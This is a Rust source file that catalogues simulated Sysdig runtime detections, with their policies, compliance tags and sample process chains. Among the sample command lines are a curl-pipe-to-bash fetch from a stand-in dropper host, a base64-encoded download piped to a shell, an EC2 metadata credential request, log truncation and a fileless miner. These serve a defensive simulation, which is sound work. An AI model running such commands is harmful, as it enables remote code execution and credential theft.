//! The catalogue: what the simulated Sysdig can detect, as readable tables.
//!
//! Rule names are those of real rule sets where the specification says so;
//! everything else is made up. `{dropper}` and `{pool}` in texts stand for the
//! addresses of the shared world.

/// A policy: what an event is named after.
#[derive(Debug, Clone, Copy)]
pub struct Policy {
    /// Number of the policy.
    pub id: u64,
    /// Name.
    pub name: &'static str,
    /// Description.
    pub description: &'static str,
}

/// One kind of event.
#[derive(Debug, Clone, Copy)]
pub struct Detection {
    /// Name of the rule; empty for the kinds that have none.
    pub rule: &'static str,
    /// Policy that raised it.
    pub policy: Policy,
    /// 0 to 7.
    pub severity: u8,
    /// What it looks at, and with what.
    pub kind: Kind,
    /// Tags of the rule.
    pub tags: &'static [&'static str],
}

/// What a kind of event looks at.
#[derive(Debug, Clone, Copy)]
pub enum Kind {
    /// A process in a container, seen through system calls.
    Process(Process),
    /// A process that a model takes for a miner.
    Miner {
        /// Command line.
        command: &'static str,
        /// Path of the program.
        exe: &'static str,
    },
    /// A request in the audit log of a cluster.
    Audit {
        /// Role that was bound.
        role: &'static str,
    },
    /// A login to the AWS console, by rule.
    AwsLogin,
    /// A login to the AWS console, by model.
    AwsLoginModel,
    /// A login to Okta, by model.
    OktaLoginModel,
    /// A change of a repository.
    Repository {
        /// Name of the repository.
        repository: &'static str,
    },
    /// An admission review.
    Admission,
    /// A finished scan of a host; hidden by the base filter.
    HostScan,
}

/// How a process came to be noticed.
#[derive(Debug, Clone, Copy)]
pub struct Process {
    /// First part of the output.
    pub sentence: &'static str,
    /// `falco`, `malware` or `drift`.
    pub engine: &'static str,
    /// Number of the rule type.
    pub rule_type: u32,
    /// System call.
    pub event_type: &'static str,
    /// File or connection; `<NA>` when there is none.
    pub fd_name: &'static str,
    /// Processes below the container's main process, parent first.
    pub steps: &'static [Step],
    /// The first step was started from outside (as `kubectl exec` does), so
    /// its parent is the shim and not the main process.
    pub from_outside: bool,
    /// What the agent did.
    pub action: Action,
}

/// One process of a chain.
#[derive(Debug, Clone, Copy)]
pub struct Step {
    /// Name of the process.
    pub name: &'static str,
    /// Path of the program.
    pub exe: &'static str,
    /// Command line.
    pub cmdline: &'static str,
}

/// What the agent did about an event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Action {
    /// Nothing.
    None,
    /// A capture that worked.
    Capture,
    /// A capture that did not.
    FailedCapture,
    /// The program was not allowed to run: drift.
    DriftPrevented,
    /// The program was not allowed to run: malware.
    MalwarePrevented,
}

const fn policy(id: u64, name: &'static str, description: &'static str) -> Policy {
    Policy { id, name, description }
}

const THREAT_INTELLIGENCE: Policy =
    policy(10_011_702, "Sysdig Runtime Threat Intelligence", "Detections backed by threat intelligence");
const THREAT_DETECTION: Policy =
    policy(10_011_703, "Sysdig Runtime Threat Detection", "High-confidence detections of attacker behaviour");
const NOTABLE: Policy = policy(10_011_701, "Sysdig Runtime Notable Events", "Suspicious but noisy behaviour");
const MALWARE: Policy = policy(10_012_001, "Sysdig Malware policy", "Known malware is kept from running");
const DRIFT: Policy = policy(10_012_002, "Sysdig Drift policy", "Programs that are not part of the image");
const MINING: Policy = policy(10_030_001, "Crypto Mining Detection", "Machine-learning detection of crypto miners");
const AWS: Policy = policy(10_022_001, "Sysdig AWS Threat Detection", "High-confidence AWS detections");
const AWS_MODEL: Policy =
    policy(10_030_002, "Sysdig AWS ML policy", "Machine-learning detection of unusual AWS logins");
const OKTA_MODEL: Policy =
    policy(10_030_003, "Sysdig Okta ML policy", "Machine-learning detection of unusual Okta logins");
const GITHUB: Policy = policy(10_022_003, "Sysdig GitHub policy", "Changes of repositories and organisations");
const AUDIT: Policy = policy(10_013_001, "K8s audit policy", "Sensitive requests to the Kubernetes API");
const ADMISSION: Policy = policy(10_014_001, "Admission policy", "Posture of resources at admission");
const SCANNING: Policy = policy(10_015_001, "Host scan", "Result of a scheduled host scan");

const EXECUTION: &[&str] = &[
    "container",
    "host",
    "process",
    "MITRE",
    "MITRE_TA0002_execution",
    "MITRE_T1059.004_command_and_scripting_interpreter_unix_shell",
    "NIST_800-53_AU-2",
    "SOC2_CC6.1",
    "ISO_27001_A.9.1.2",
    "HIPAA_164.312(b)",
];
const EVASION: &[&str] = &[
    "container",
    "host",
    "process",
    "MITRE",
    "MITRE_TA0005_defense_evasion",
    "PCI_DSS_10.5.5",
    "NIST_800-53_AU-9",
    "SOC2_CC7.2",
    "GDPR_32.1",
];
const CREDENTIALS: &[&str] = &[
    "container",
    "network",
    "aws",
    "MITRE",
    "MITRE_TA0006_credential_access",
    "MITRE_T1552.005_cloud_instance_metadata_api",
    "NIST_800-53_IA-5",
    "SOC2_CC6.1",
];
const CLOUD: &[&str] =
    &["cloud", "aws", "MITRE", "MITRE_TA0001_initial_access", "NIST_800-53_IA-2(1)", "SOC2_CC6.1", "ISO_27001_A.9.4.2"];
const KUBERNETES: &[&str] = &["k8s", "MITRE", "MITRE_TA0004_privilege_escalation", "NIST_800-53_AC-6", "SOC2_CC6.3"];

const BASH_EXPLOIT: Step = step("bash", "/bin/bash", "bash -c curl -s http://{dropper}/x | bash");
const BASH_ADMIN: Step = step("bash", "/bin/bash", "bash");

const fn step(name: &'static str, exe: &'static str, cmdline: &'static str) -> Step {
    Step { name, exe, cmdline }
}

const fn falco(
    sentence: &'static str,
    event_type: &'static str,
    fd_name: &'static str,
    steps: &'static [Step],
) -> Process {
    Process {
        sentence,
        engine: "falco",
        rule_type: 6,
        event_type,
        fd_name,
        steps,
        from_outside: false,
        action: Action::None,
    }
}

const fn process(
    rule: &'static str,
    policy: Policy,
    severity: u8,
    tags: &'static [&'static str],
    process: Process,
) -> Detection {
    Detection { rule, policy, severity, kind: Kind::Process(process), tags }
}

const fn other(
    rule: &'static str,
    policy: Policy,
    severity: u8,
    tags: &'static [&'static str],
    kind: Kind,
) -> Detection {
    Detection { rule, policy, severity, kind, tags }
}

/// The miner starts from memory.
pub const FILELESS: Detection = process(
    "Fileless execution via memfd_create",
    THREAT_INTELLIGENCE,
    0,
    EVASION,
    falco(
        "Fileless execution of a program from memory",
        "execve",
        "memfd:kworkerd",
        &[BASH_EXPLOIT, step("kworkerd", "memfd:kworkerd", "kworkerd -o {pool}")],
    ),
);
/// The second stage arrives encoded.
pub const BASE64: Detection = process(
    "Base64-encoded Shell Script Execution",
    THREAT_DETECTION,
    2,
    EXECUTION,
    falco(
        "A base64-encoded shell script was executed",
        "execve",
        "<NA>",
        &[
            BASH_EXPLOIT,
            step("bash", "/bin/bash", "bash -c echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUwL3g= | base64 -d | bash"),
        ],
    ),
);
/// An encoded script of a backup job.
pub const BASE64_JOB: Detection = process(
    "Base64-encoded Shell Script Execution",
    THREAT_DETECTION,
    2,
    EXECUTION,
    falco(
        "A base64-encoded shell script was executed",
        "execve",
        "<NA>",
        &[step("sh", "/bin/sh", "sh -c echo cm90YXRlLWxvZ3M= | base64 -d | sh")],
    ),
);
/// The attacker asks for the node's role.
pub const METADATA: Detection = process(
    "Contact EC2 Instance Metadata Service From Container",
    NOTABLE,
    4,
    CREDENTIALS,
    falco(
        "A container contacted the EC2 instance metadata service",
        "connect",
        "169.254.169.254:80",
        &[step("curl", "/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")],
    ),
);
/// The attacker does the same from his shell.
pub const METADATA_EXPLOIT: Detection = process(
    "Contact EC2 Instance Metadata Service From Container",
    NOTABLE,
    4,
    CREDENTIALS,
    falco(
        "A container contacted the EC2 instance metadata service",
        "connect",
        "169.254.169.254:80",
        &[
            BASH_EXPLOIT,
            step("curl", "/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ],
    ),
);
/// The exposed service starts a shell.
pub const SHELL_EXPLOIT: Detection = process(
    "Terminal shell in container",
    NOTABLE,
    4,
    EXECUTION,
    falco("A shell was started in a container", "execve", "<NA>", &[BASH_EXPLOIT]),
);
/// Somebody looks around with `kubectl exec`.
pub const SHELL_ADMIN: Detection = process(
    "Terminal shell in container",
    NOTABLE,
    4,
    EXECUTION,
    Process {
        from_outside: true,
        ..falco("A shell was started in a container", "execve", "/dev/pts/0", &[BASH_ADMIN])
    },
);
/// Log files are emptied.
pub const CLEAR_LOGS: Detection = process(
    "Clear Log Activities",
    NOTABLE,
    5,
    EVASION,
    Process {
        from_outside: true,
        action: Action::Capture,
        ..falco(
            "Log files were emptied",
            "openat",
            "/var/log/app/access.log",
            &[BASH_ADMIN, step("truncate", "/usr/bin/truncate", "truncate -s 0 /var/log/app/access.log")],
        )
    },
);
/// A container with a mounted host path.
pub const SENSITIVE_MOUNT: Detection = process(
    "Launch Sensitive Mount Container",
    NOTABLE,
    5,
    EXECUTION,
    Process {
        from_outside: true,
        action: Action::FailedCapture,
        ..falco(
            "A container was started with a sensitive mount",
            "container",
            "/etc",
            &[step("sh", "/bin/sh", "sh -c ls /host/etc")],
        )
    },
);
/// A known bad program, kept from running.
pub const MALWARE_BLOCKED: Detection = process(
    "Malware Detection",
    MALWARE,
    1,
    EXECUTION,
    Process {
        engine: "malware",
        rule_type: 8,
        action: Action::MalwarePrevented,
        ..falco(
            "A malicious program was kept from running",
            "execve",
            "/tmp/.cache/svc-helper",
            &[
                step("sh", "/bin/sh", "sh -c /tmp/.cache/svc-helper"),
                step("svc-helper", "/tmp/.cache/svc-helper", "/tmp/.cache/svc-helper"),
            ],
        )
    },
);
/// The program of the malware event, noticed first as drift.
pub const DRIFT_HELPER: Detection = process(
    "Drift Detected",
    DRIFT,
    3,
    EVASION,
    Process {
        engine: "drift",
        rule_type: 7,
        action: Action::DriftPrevented,
        ..falco(
            "A program that is not part of the image was started",
            "execve",
            "/tmp/.cache/svc-helper",
            &[
                step("sh", "/bin/sh", "sh -c /tmp/.cache/svc-helper"),
                step("svc-helper", "/tmp/.cache/svc-helper", "/tmp/.cache/svc-helper --install"),
            ],
        )
    },
);
/// The first stage on disk, kept from running; the attacker then goes fileless.
pub const DRIFT_EXPLOIT: Detection = process(
    "Drift Detected",
    DRIFT,
    3,
    EVASION,
    Process {
        engine: "drift",
        rule_type: 7,
        action: Action::DriftPrevented,
        ..falco(
            "A program that is not part of the image was started",
            "execve",
            "/tmp/x",
            &[BASH_EXPLOIT, step("x", "/tmp/x", "/tmp/x")],
        )
    },
);
/// A package installed by hand.
pub const DRIFT_PACKAGE: Detection = process(
    "Drift Detected",
    DRIFT,
    3,
    EVASION,
    Process {
        engine: "drift",
        rule_type: 7,
        from_outside: true,
        action: Action::DriftPrevented,
        ..falco(
            "A program that is not part of the image was started",
            "execve",
            "/usr/local/bin/jq",
            &[BASH_ADMIN, step("jq", "/usr/local/bin/jq", "jq .status")],
        )
    },
);
/// The miner, seen by its behaviour.
pub const MINER: Detection =
    other("", MINING, 0, &[], Kind::Miner { command: "kworkerd -o {pool}", exe: "/dev/shm/kworkerd" });
/// A console login without a second factor.
pub const AWS_LOGIN: Detection = other("Console Login Without MFA", AWS, 3, CLOUD, Kind::AwsLogin);
/// A console login that does not fit the user.
pub const AWS_LOGIN_MODEL: Detection = other("Anomalous AWS console login", AWS_MODEL, 2, CLOUD, Kind::AwsLoginModel);
/// An Okta login that does not fit the user.
pub const OKTA_LOGIN_MODEL: Detection = other("Anomalous Okta login", OKTA_MODEL, 3, CLOUD, Kind::OktaLoginModel);
/// A private repository made public.
pub const REPOSITORY: Detection = other(
    "Repository made public",
    GITHUB,
    6,
    &["github", "git", "MITRE", "MITRE_TA0010_exfiltration"],
    Kind::Repository { repository: "deploy-notes" },
);
/// Somebody becomes administrator of a cluster.
pub const CLUSTER_ADMIN: Detection =
    other("Attach to cluster-admin role", AUDIT, 4, KUBERNETES, Kind::Audit { role: "cluster-admin" });
/// A posture note at admission.
pub const POSTURE: Detection = other("", ADMISSION, 7, &[], Kind::Admission);
/// Scanner noise.
pub const HOST_SCAN: Detection = other("", SCANNING, 7, &[], Kind::HostScan);
